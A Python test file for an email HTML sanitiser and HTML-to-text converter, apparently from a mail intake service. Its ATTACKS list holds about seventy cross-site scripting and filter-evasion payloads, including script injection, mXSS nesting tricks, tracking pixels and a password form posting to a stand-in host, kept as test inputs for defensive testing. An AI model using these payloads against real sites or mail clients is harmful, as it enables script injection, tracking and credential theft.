"""Html that is safe to show, and the text of it."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from services.intake.shell.mail.html import EMBEDDED_IMAGES_MAX, LINKED, TAGS, sanitised
from services.intake.shell.mail.plain import QUOTE_MARKS_MAX, readable
from services.intake.shell.mail.texts import words

ATTRIBUTES = words(
    "align alt colspan dir height href lang rel rowspan span src start title type valign value "
    "width"
)
PIXEL = "R0lGODlhAQABAAAAACwAAAAAAQABAAA="

# One for each way in that the OWASP filter evasion sheet and the mXSS literature know.
ATTACKS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x00>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=`javascript:alert(1)`>",
    '<img """><script>alert(1)</script>">',
    "<img src=javascript:alert(1)>",
    '<img src="jav\tascript:alert(1)">',
    '<img src="jav&#x0A;ascript:alert(1)">',
    '<img src=" &#14; javascript:alert(1);">',
    "<img src=data:image/svg+xml;base64,PHN2Zz4=>",
    "<img src=data:text/html,<script>alert(1)</script>>",
    "<img srcset='https://evil.example/x 1x'>",
    "<img src=https://evil.example/pixel.gif width=1>",
    "<img src=//evil.example/pixel.gif>",
    "<img src=cid:x onload=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=JaVaScRiPt&colon;alert(1)>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href=vbscript:x>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href=file:///etc/passwd>x</a>",
    "<a href=/relative>x</a>",
    "<a href=//evil.example>x</a>",
    "<a href=cid:x>x</a>",
    "<a href='https://x' onclick=alert(1) style=x target=_self ping=https://evil.example>x</a>",
    "<p style='background:url(https://evil.example/x)'>x</p>",
    "<div style='position:fixed;width:100%;height:100%'>x</div>",
    "<style>@import url(https://evil.example/x.css);</style>",
    "<style><style/><img src=x onerror=alert(1)>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example><input name=password><button>Go</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<iframe src=https://evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=x><embed src=x></object>",
    "<video poster=https://evil.example/x><source src=https://evil.example/y></video>",
    "<audio src=https://evil.example/x>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src onerror=x&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<!-- --!><img src=x onerror=alert(1)>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<table background=https://evil.example/x><td background=https://evil.example/y>x</table>",
    "<body onload=alert(1) background=https://evil.example/x>x",
    "<marquee onstart=alert(1)>x</marquee>",
    "<details open ontoggle=alert(1)>x</details>",
    "<template><script>alert(1)</script></template>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<p title='\"><img src=x onerror=alert(1)>'>x</p>",
    "<blockquote cite=https://evil.example/x>x</blockquote>",
    "<q cite=javascript:alert(1)>x</q>",
    "<del cite=https://evil.example/x>x</del>",
    "<font face=x color=red>x</font>",
    "<p id=login class=admin name=x>x</p>",
    "\ufeff<script>alert(1)</script>",
    "<x onclick=alert(1)>x</x>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
)


class Inspector(HTMLParser):
    """Asserts that everything it meets is allowed, and remembers it."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.met: list[object] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in TAGS, tag
        given = dict(attrs)
        assert set(given) <= ATTRIBUTES, given
        if "href" in given:
            assert tag == "a"
            assert (given["href"] or "").partition(":")[0].strip().lower() in LINKED
        if "src" in given:
            assert tag == "img"
            assert (given["src"] or "").lower().startswith("cid:")
        assert tag != "a" or "noopener" in (given.get("rel") or "")
        self.met.append((tag, given))

    def handle_endtag(self, tag: str) -> None:
        self.met.append(tag)

    def handle_data(self, data: str) -> None:
        self.met.append([data])

    def handle_comment(self, data: str) -> None:
        raise AssertionError(data)

    def handle_decl(self, decl: str) -> None:
        raise AssertionError(decl)

    def handle_pi(self, data: str) -> None:
        raise AssertionError(data)


def checked(html: str) -> str:
    """The sanitised html, in which nothing is that is not allowed, however often it is parsed."""
    made = sanitised(html).html
    assert Inspector(made).met == Inspector(sanitised(made).html).met
    return made


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_comes_to_nothing(attack: str) -> None:
    checked(attack)
    checked(f"<p>Hello</p>{attack}<p>World</p>")
    checked(f"<table><tr><td>{attack}</table>")


@given(
    st.lists(
        st.sampled_from(ATTACKS).flatmap(
            lambda attack: st.integers(0, len(attack)).map(lambda end: attack[:end])
        )
        | st.text(max_size=5),
        max_size=6,
    )
)
def test_attacks_in_pieces_come_to_nothing(pieces: list[str]) -> None:
    checked("".join(pieces).replace("\0", ""))


@pytest.mark.parametrize(
    ("html", "kept"),
    [
        ("<p>a <b>b</b> <i>c</i><br>d</p>", "<p>a <b>b</b> <i>c</i><br>d</p>"),
        ("<img src='cid:a@b' alt=x>", '<img src="cid:a@b" alt="x">'),
        ("<img src='https://evil.example/x.gif' alt=logo>", '<img alt="logo">'),
        (
            "<a href='tel:+4930'>x</a>",
            '<a href="tel:+4930" rel="noopener noreferrer nofollow">x</a>',
        ),
        (
            "<table><tr><td colspan=2>x</table>",
            '<table><tbody><tr><td colspan="2">x</td></tr></tbody></table>',
        ),
        ("<title>t</title><style>p{}</style>x", "x"),
        ("<center><font>x</font></center>", "<center>x</center>"),
        ("1 < 2 & 3", "1 &lt; 2 &amp; 3"),
        ("", ""),
    ],
)
def test_what_people_write_is_kept(html: str, kept: str) -> None:
    assert checked(html) == kept


def test_images_that_are_written_into_it_become_files() -> None:
    image = f"<img src='data:image/gif;base64,{PIXEL}'>"
    made = sanitised(image * 2)
    assert len(made.images) == 1
    assert made.shown == set(made.images)
    broken = sanitised("<img src='data:image/gif;base64,A'>")
    assert (broken.html, broken.images) == ("<img>", {})


def test_images_that_are_written_into_it_have_a_number() -> None:
    images = "".join(
        f"<img src='data:image/gif;base64,AAA{chr(65 + number)}'>" for number in range(26)
    )
    assert len(sanitised(images).images) == EMBEDDED_IMAGES_MAX


@pytest.mark.parametrize(
    ("html", "text"),
    [
        ("Hello <b>World</b>", "Hello World"),
        ("<p>One</p><p>Two</p>", "One\n\nTwo"),
        ("<div>One</div><div>Two</div>", "One\nTwo"),
        ("<div>One</div><div><br></div><div>Two</div>", "One\n\nTwo"),
        ("One<br>Two<br><br>Three", "One\nTwo\n\nThree"),
        ("a  \n b&nbsp;&nbsp;c", "a b  c"),
        ("<ul><li>a<li>b</ul>", "- a\n- b"),
        ("<ol start=3><li>a<li value=7>b<li>c</ol>", "3. a\n7. b\n8. c"),
        ("<ul><li>a<ul><li>b</ul></ul>", "- a\n\n- b"),
        ("<ul><li><p>a</p><p>b</p></ul>", "- a\n\nb"),
        ("<table><tr><td>a<td>b<tr><td>c</table>", "a b\nc"),
        ("<pre>  a\n    b\n</pre>c", "  a\n    b\n\nc"),
        ('<a href="https://x.example/y">here</a>', "here <https://x.example/y>"),
        ('<a href="https://x.example/">https://x.example</a>', "https://x.example"),
        ('<a href="mailto:a@x.example">a@x.example</a>', "a@x.example"),
        ('<a href="https://x.example"><img src=y></a>', "<https://x.example>"),
        ('<a href="javascript:x">here</a>', "here"),
        ("<img alt='A cat' src=x>", "A cat"),
        ("<style>p{}</style><script>x</script><title>t</title>x", "x"),
        (
            "<blockquote type=cite>a<blockquote type=cite>b</blockquote></blockquote>c",
            "> a\n>\n>> b\n\nc",
        ),
        ("<blockquote class=gmail_quote><p>a</p><p>b</p></blockquote>", "> a\n>\n> b"),
        ("<blockquote style='margin:0 0 0 40px'>a</blockquote>", "a"),  # Gmail's way to indent
        ("<h1>a</h1>b<hr>c", "a\n\nb\nc"),
        ("&lt;b&gt; &amp;amp; &#128512;", "<b> &amp; 😀"),
        ("<o:p>a</o:p><section>b</section>c", "a\nb\nc"),
        ("<!-- x --><![if !mso]>a<![endif]>", "a"),
        ("a<wbr>b", "ab"),
        ("", ""),
    ],
)
def test_readable(html: str, text: str) -> None:
    assert readable(html).text == text


def test_quotes_within_quotes_have_an_end() -> None:
    deep = readable("<blockquote type=cite>" * 100 + "x").text
    assert deep == ">" * QUOTE_MARKS_MAX + " x"


@given(
    st.lists(
        st.sampled_from(
            [
                "<p>",
                "</p>",
                "<pre>",
                "</pre>",
                "<li>",
                "<ol>",
                "</ol>",
                "<br>",
                "<td>",
                "<a href='https://x'>",
                "</a>",
                "<blockquote type=cite>",
                "</blockquote>",
                "w",
                " ",
                "\n",
                "&amp;",
                "<div class=gmail_quote>",
                "</div>",
            ]
        ),
        max_size=40,
    )
)
def test_every_word_is_read(pieces: list[str]) -> None:
    found = readable("".join(pieces))
    assert found.text.count("w") == pieces.count("w")
    assert all(0 <= line <= found.text.count("\n") for line in found.quote_lines) or not found.text


@pytest.mark.parametrize(
    "html", ["<script>", "<p style=x>", "<a href=data:x>", "<img src=x>", "<!--x-->"]
)
def test_what_is_not_allowed_is_seen(html: str) -> None:
    with pytest.raises(AssertionError):
        Inspector(html)
